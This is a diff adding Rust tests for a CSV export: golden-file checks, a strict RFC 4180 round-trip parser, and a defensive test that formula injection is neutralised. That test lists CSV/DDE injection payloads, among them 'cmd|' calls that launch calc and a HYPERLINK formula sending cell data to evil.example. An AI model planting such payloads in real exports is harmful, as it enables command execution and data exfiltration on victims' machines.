@@ -1,0 +1,138 @@
+//! The table: its looks, that a strict reader gets back what was said, and that no cell is a formula.
+
+use crate::support::random::{Extent, profiles};
+use crate::support::{BANK, everybody, lang};
+use crate::{assert_golden, example, named};
+use interlocal_core::export::{csv, csv_header, csv_rows};
+use interlocal_core::profile::Profile;
+use interlocal_core::score::score;
+use interlocal_core::visible::{effective, is_shown};
+use std::collections::BTreeMap;
+
+/// RFC 4180 to the letter, behind a byte order mark.
+fn parse(file: &str) -> Vec<Vec<String>> {
+    let mut rest = file.strip_prefix('\u{FEFF}').expect("a byte order mark");
+    let mut rows = vec![Vec::new()];
+    while !rest.is_empty() {
+        let (cell, after) = match rest.strip_prefix('"') {
+            Some(quoted) => quoted_cell(quoted),
+            None => {
+                let (cell, after) = rest.split_at(rest.find([',', '\r']).expect("an end of the line"));
+                assert!(!cell.contains(['"', '\n']), "{cell}");
+                (cell.to_owned(), after)
+            }
+        };
+        rows.last_mut().unwrap().push(cell);
+        rest = match after.strip_prefix(',') {
+            Some(after) => after,
+            None => {
+                rows.push(Vec::new());
+                after.strip_prefix("\r\n").expect("CR LF")
+            }
+        };
+    }
+    assert_eq!(rows.pop(), Some(Vec::new()));
+    rows
+}
+
+fn quoted_cell(text: &str) -> (String, &str) {
+    let mut cell = String::new();
+    let mut rest = text;
+    loop {
+        let (part, after) = rest.split_once('"').expect("a closing quote");
+        cell.push_str(part);
+        match after.strip_prefix('"') {
+            Some(after) => {
+                cell.push('"');
+                rest = after;
+            }
+            None => return (cell, after),
+        }
+    }
+}
+
+/// The rows by column name.
+fn rows(file: &str) -> Vec<BTreeMap<String, String>> {
+    let mut lines = parse(file).into_iter();
+    let names = lines.next().unwrap();
+    let row = |cells: Vec<String>| {
+        assert_eq!(cells.len(), names.len());
+        names.iter().cloned().zip(cells).collect()
+    };
+    lines.map(row).collect()
+}
+
+fn written(profile: &Profile) -> Vec<BTreeMap<String, String>> {
+    rows(&csv(&BANK, lang("en"), profile))
+}
+
+#[test]
+fn the_table_is_as_it_was_looked_at() {
+    for code in ["en", "es"] {
+        assert_golden(&format!("little-quill.{code}.csv"), &csv(&BANK, lang(code), &example(code)));
+    }
+}
+
+#[test]
+fn a_strict_reader_gets_back_what_was_said() {
+    let random = profiles(&BANK, Extent::Long, 60).map(|(_, profile)| profile);
+    for profile in everybody().into_iter().chain(random) {
+        let card = score(&BANK, &profile);
+        let rows = written(&profile);
+        assert_eq!(rows.len(), BANK.capabilities.len());
+        for (row, capability) in rows.iter().zip(&BANK.capabilities) {
+            let known = card.row(capability.slot);
+            let number = |level: Option<u8>| level.map(|level| level.to_string()).unwrap_or_default();
+            assert_eq!(row["capability"], capability.id);
+            assert_eq!(row["applicable"], if known.is_some() { "yes" } else { "no" });
+            assert_eq!(row["applicable"] == "yes", row["why_not"].is_empty());
+            assert_eq!(row["skill"], number(known.and_then(|row| row.skill)));
+            assert_eq!(row["need"], number(known.and_then(|row| row.need)));
+            assert_eq!(row["quadrant"].is_empty(), known.is_none_or(|row| row.quadrant.is_none()));
+            assert_eq!(row["date"], profile.date.map(|date| date.iso()).unwrap_or_default());
+            let is_hidden = !is_shown(capability, &profile);
+            assert_eq!(
+                row["why_not"] == "not-asked",
+                is_hidden,
+                "{:?}",
+                effective(&BANK, &profile, capability.slot)
+            );
+        }
+    }
+}
+
+#[test]
+fn a_formula_in_a_name_is_text() {
+    for evil in [
+        "=cmd|'/C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
+        "\u{FF1D}1+1",
+        "Oak;=1+1",
+        "Oak; @x",
+        "\"=1",
+        "'=1",
+        "=\"a\",\"b\"",
+    ] {
+        let file = csv(&BANK, lang("en"), &named(evil));
+        for row in rows(&file) {
+            let starts = |text: &str| text.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{FF1D}']);
+            for (column, cell) in &row {
+                // As a computer reads it whose region parts cells by semicolons.
+                assert!(!cell.split(';').any(|part| starts(part.trim_start())), "{column}: {cell}");
+            }
+            assert_eq!(row["agency"].replace('\'', ""), evil.replace('\'', ""));
+        }
+    }
+}
+
+#[test]
+fn several_profiles_share_one_header() {
+    let profiles = everybody();
+    let rest: String = profiles.iter().map(|profile| csv_rows(&BANK, lang("es"), profile)).collect();
+    let rows = rows(&[csv_header(&BANK), rest].concat());
+    assert_eq!(rows.len(), profiles.len() * BANK.capabilities.len());
+    assert!(rows[0].keys().any(|column| column == "ctx-kind"));
+}
